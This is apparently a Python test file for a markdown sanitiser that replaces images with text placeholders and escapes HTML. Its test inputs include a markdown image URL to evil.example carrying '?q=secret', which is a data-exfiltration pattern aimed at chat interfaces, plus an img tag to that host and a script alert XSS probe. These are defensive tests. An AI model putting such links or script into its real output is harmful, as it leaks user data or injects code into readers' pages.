from __future__ import annotations

from flotilla.ui.markdown import safe_markdown


def test_images_become_words_and_tags_text() -> None:
    exfiltrate = 'Done! ![](https://evil.example/?q=secret) and ![chart](http://x/y.png "t")'
    assert safe_markdown(exfiltrate) == "Done! *(image not shown)* and *(image not shown: chart)*"
    assert safe_markdown("![logo][1]\n\n[1]: https://evil.example/x.png") == (
        "*(image not shown: logo)*\n\n[1]: https://evil.example/x.png"
    )
    html = '<img src="https://evil.example/?q=secret"><script>alert(1)</script>'
    assert "<" not in safe_markdown(html) and "&lt;img" in safe_markdown(html)


def test_text_links_and_code_are_left_alone() -> None:
    text = "Use `List<int>` here, see [docs](https://example.org).\n\n```html\n<img src=x>\n![a](b)\n```\n"
    assert safe_markdown(text) == text
    assert safe_markdown("**bold** 2 < 3 and 5 > 4") == "**bold** 2 < 3 and 5 > 4"
